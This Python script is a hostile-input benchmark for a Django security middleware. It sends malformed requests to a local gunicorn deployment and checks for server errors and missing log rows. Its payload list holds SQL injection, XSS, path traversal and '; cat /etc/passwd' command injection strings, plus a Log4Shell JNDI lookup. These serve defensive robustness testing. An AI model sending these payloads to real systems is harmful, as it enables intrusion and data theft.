"""Hostile input against a real deployment: no 5xx, and a log row for every response.

    python tests/benchmarks/hostile.py [--requests 50000] [--concurrency 32]

Starts ``tests.deploy`` under gunicorn (2 sync workers) on Redis + PostgreSQL
with smartlayer's default settings (enforcing, one trusted proxy hop) and
sends it a mix of what attackers and broken clients really send, over raw
sockets so that nothing is cleaned up on the way:

* NUL bytes in the path, the query, JSON bodies (``\\u0000``) and headers;
* invalid and overlong UTF-8, lone surrogates (``%ed%a0%80``), latin-1 bytes;
* payloads of every family the validator knows, regex bombs
  (``union`` + ``/**/`` × 26), 64 KiB query strings and bodies, 8 KiB headers;
* spoofed and malformed ``X-Forwarded-For`` chains;
* bodies declared but never sent on GET, multipart uploads, bodies above
  Django's upload limit, chunked bodies.

Every request carries a rotating ``X-Forwarded-For`` (the server trusts one
hop), so bans of some clients never stop the run.  The server counts the
responses Django sends (:mod:`tests.deploy.counter`); after a graceful stop
the request log must hold exactly as many rows.  Responses gunicorn itself
gives to requests it cannot parse (400 for a NUL byte in the request line)
never reach Django; they are counted separately.

Exit status 0 when there was no 5xx and rows == responses.
"""
from __future__ import annotations

import argparse
import asyncio
import json
import random
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

from tests.benchmarks.load import clear_redis, prepare_database, sql  # noqa: E402
from tests.deploy.counter import read_counts, read_metrics  # noqa: E402
from tests.deploy.servers import BROWSER_UA, ServerProcess, deploy_env, free_port, gunicorn_cmd, migrate  # noqa: E402

PAYLOADS = [
    "1' OR '1'='1", "' UNION SELECT username, password FROM users--", "<script>alert(1)</script>",
    "../../../../etc/passwd", "; cat /etc/passwd", "${jndi:ldap://x.example/a}", "{{7*7}}",
    "union" + "/**/" * 26 + "x", "union all" + "/**/" * 26 + "x", "'" + " or " * 2000,
    "<a " + "x" * 5000 + " onclick=1>", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "a" * 30 + "!",
    "&#x3c;script&#x3e;", "\\u003cscript\\u003e", "SELECT pg_sleep(10)", "%252e%252e%252f",
]


def _q(text: str) -> bytes:
    from urllib.parse import quote

    return quote(text, safe="=&").encode()


def build(rng: random.Random, n: int) -> tuple[str, bytes]:
    """One hostile request as raw bytes: (kind, bytes)."""
    ip = f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    spoof = rng.choice(["", "1.2.3.4, ", "127.0.0.1, ", "garbage, ", "::1, ", "999.1.1.1, ", "\x00, "])
    headers = {"Host": "localhost", "User-Agent": BROWSER_UA, "X-Forwarded-For": spoof + ip, "Connection": "close"}
    method, target, body = "GET", b"/page/1", b""
    kind = rng.choice(["nul_path", "nul_query", "nul_json", "nul_header", "utf8", "surrogate", "payload_query",
                       "payload_form", "bomb", "big_query", "big_header", "cookie", "xff", "json", "multipart",
                       "declared_no_body", "chunked", "latin1_path", "benign", "benign"])
    if kind == "nul_path":
        target = rng.choice([b"/page/%00", b"/page/a%00b", b"/%00/x", b"/page/%2500"])
    elif kind == "nul_query":
        target = b"/page/1?q=" + rng.choice([b"%00", b"abc%00def", b"%00%00%00", b"x%00' OR 1=1--"])
    elif kind == "nul_json":
        method, body = "POST", rng.choice([b'{"a": "\\u0000"}', b'{"\\u0000": "x"}', b'{"q": "1\\u0000\' OR 1=1"}'])
        headers["Content-Type"] = "application/json"
        target = b"/api/items"
    elif kind == "nul_header":
        headers["User-Agent"] = "Mozilla/5.0 \x00 evil"
        headers["Referer"] = "http://x/\x00"
    elif kind == "utf8":
        target = rng.choice([b"/page/%ff%fe", b"/page/1?q=%c0%ae%c0%ae", b"/page/\xff\xfe", b"/page/1?q=\xc3\x28"])
    elif kind == "surrogate":
        target = rng.choice([b"/page/%ed%a0%80", b"/page/1?q=%ed%b0%80x"])
        if rng.random() < 0.5:
            method, body = "POST", b'{"a": "\\ud800"}'
            headers["Content-Type"] = "application/json"
    elif kind == "payload_query":
        target = b"/page/1?q=" + _q(rng.choice(PAYLOADS))
    elif kind == "payload_form":
        method, body = "POST", b"name=" + _q(rng.choice(PAYLOADS))
        headers["Content-Type"] = "application/x-www-form-urlencoded"
        target = b"/api/form"
    elif kind == "bomb":
        target = b"/page/1?q=" + _q(rng.choice(PAYLOADS[7:12]))
    elif kind == "big_query":
        target = b"/page/1?q=" + b"%27%20or%20" * rng.randrange(100, 5000)
    elif kind == "big_header":
        headers["Referer"] = "http://x/" + "<a onmouseover=" * 500
        headers["X-Original-URL"] = "/" + "../" * 2000
    elif kind == "cookie":
        headers["Cookie"] = "; ".join(f"c{i}={rng.choice(PAYLOADS)[:200]}" for i in range(20))
    elif kind == "xff":
        headers["X-Forwarded-For"] = rng.choice([",,,," + ip, "[::1]:80, " + ip, "x" * 5000 + ", " + ip, ip + ", "])
    elif kind == "json":
        method, headers["Content-Type"] = "POST", "application/json"
        body = json.dumps({"a": [rng.choice(PAYLOADS)] * 50, "b": {"c": "\ud800"}}, ensure_ascii=True).encode()
        target = b"/api/items"
    elif kind == "multipart":
        method, boundary = "POST", "b0undary"
        headers["Content-Type"] = f"multipart/form-data; boundary={boundary}"
        body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{rng.choice(PAYLOADS)}\r\n"
                f"--{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\n"
                f"Content-Type: application/octet-stream\r\n\r\n").encode() + bytes(rng.randrange(256) for _ in
                                                                                   range(2000)) \
            + f"\r\n--{boundary}--\r\n".encode()
        target = b"/api/upload"
    elif kind == "declared_no_body":
        headers["Content-Length"] = "1000"
    elif kind == "chunked":
        method, headers["Transfer-Encoding"] = "POST", "chunked"
        headers["Content-Type"] = "application/x-www-form-urlencoded"
        target = b"/api/form"
        body = b"a\r\nq=%27%20OR\r\n0\r\n\r\n"
    elif kind == "latin1_path":
        target = "/page/caf\xe9".encode("latin-1")
    if body and "Content-Length" not in headers and "Transfer-Encoding" not in headers:
        headers["Content-Length"] = str(len(body))
    head = method.encode() + b" " + target + b" HTTP/1.1\r\n"
    head += b"".join(k.encode() + b": " + v.encode("utf-8", "surrogatepass") + b"\r\n" for k, v in headers.items())
    return kind, head + b"\r\n" + body


async def send(host: str, port: int, raw: bytes, timeout: float) -> int:
    """The status code answered (0: connection error, -1: timeout)."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), timeout)
    except (OSError, asyncio.TimeoutError):
        return 0
    try:
        writer.write(raw)
        await writer.drain()
        line = await asyncio.wait_for(reader.readline(), timeout)
        parts = line.split()
        status = int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0
        await asyncio.wait_for(reader.read(), timeout)
        return status
    except asyncio.TimeoutError:
        return -1
    except OSError:
        return 0
    finally:
        writer.close()


async def run(port: int, n: int, concurrency: int, seed: int, timeout: float) -> tuple[Counter, Counter]:
    rng = random.Random(seed)
    statuses: Counter = Counter()
    kinds: Counter = Counter()
    queue: asyncio.Queue = asyncio.Queue()
    for i in range(n):
        queue.put_nowait(build(rng, i))

    async def worker() -> None:
        while not queue.empty():
            kind, raw = queue.get_nowait()
            status = await send("127.0.0.1", port, raw, timeout)
            statuses[status] += 1
            kinds[(kind, status // 100 if status > 0 else status)] += 1

    await asyncio.gather(*(worker() for _ in range(concurrency)))
    return statuses, kinds


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--requests", type=int, default=50_000)
    parser.add_argument("--concurrency", type=int, default=32)
    parser.add_argument("--workers", type=int, default=2)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--timeout", type=float, default=10.0, help="seconds a client waits for its answer")
    parser.add_argument("--database-url", default="postgresql://postgres@127.0.0.1:5432/smartlayer_bench")
    parser.add_argument("--redis-url", default="redis://127.0.0.1:6379/15")
    parser.add_argument("--key-prefix", default="slhostile")
    args = parser.parse_args()

    prepare_database(args.database_url)
    migrate(deploy_env(SMARTLAYER_DEPLOY_DATABASE_URL=args.database_url))
    sql(args.database_url, "TRUNCATE smartlayer_requestlog, smartlayer_ban, smartlayer_usagecounter")
    clear_redis(args.redis_url, args.key_prefix)
    workdir = Path(tempfile.mkdtemp(prefix="sl-hostile-"))
    counts = workdir / "counts"
    counts.mkdir()
    env = deploy_env(SMARTLAYER_DEPLOY_DATABASE_URL=args.database_url, SMARTLAYER_DEPLOY_REDIS_URL=args.redis_url,
                     SMARTLAYER_DEPLOY_KEY_PREFIX=args.key_prefix, SMARTLAYER_DEPLOY_COUNT_DIR=str(counts),
                     SMARTLAYER_DEPLOY_SMART=json.dumps({"TRUSTED_PROXY_COUNT": 1, "LOG_WRITER": "thread"}))
    port = free_port()
    server = ServerProcess(gunicorn_cmd(port, workers=args.workers), env, port, workdir / "gunicorn.log")
    started = time.monotonic()
    try:
        server.start()
        statuses, kinds = asyncio.run(run(port, args.requests, args.concurrency, args.seed, args.timeout))
        took = time.monotonic() - started
        exit_status = server.stop(timeout=60)
    finally:
        server.kill()
        clear_redis(args.redis_url, args.key_prefix)
    served = read_counts(str(counts))
    metrics = read_metrics(str(counts))
    responses = sum(served.values())
    rows = sql(args.database_url, "SELECT COUNT(*) FROM smartlayer_requestlog") or 0
    nul_rows = sql(args.database_url, "SELECT COUNT(*) FROM smartlayer_requestlog WHERE path LIKE '%%' || "
                                      "chr(65533) || '%%' OR path LIKE '%%\\x00%%'") or 0

    print(f"{args.requests} hostile requests, {args.concurrency} connections, gunicorn {args.workers} sync "
          f"workers on Redis + PostgreSQL, {took:.0f} s (exit status {exit_status})")
    print("client-side statuses:", dict(sorted(statuses.items())), "(0: connection error, -1: client timeout)")
    print("server-side responses by Django:", dict(served))
    by_kind: dict[str, dict] = {}
    for (kind, cls), k in sorted(kinds.items()):
        by_kind.setdefault(kind, {})[cls] = k
    for kind, classes in by_kind.items():
        print(f"  {kind:<18}" + "  ".join(f"{c if c > 0 else {0: 'err', -1: 'timeout'}[c]}"
                                           f"{'xx' if c > 0 else ''}: {v}" for c, v in classes.items()))
    trouble = {k: v for k, v in metrics.items() if k.startswith(("failure.", "log.")) and v}
    print(f"smartlayer failures/drops in the workers: {trouble or 'none'}")
    five = served.get("5xx", 0) + sum(v for s, v in statuses.items() if s >= 500)
    print(f"\n5xx: {five} (target 0: {'MET' if five == 0 else 'NOT MET'})")
    print(f"RequestLog rows {rows} vs responses sent by Django {responses}: "
          f"{'equal' if rows == responses else 'ROWS MISSING'} ({nul_rows} rows with a cleaned character in the path)")
    return 0 if five == 0 and rows == responses else 1


if __name__ == "__main__":
    sys.exit(main())
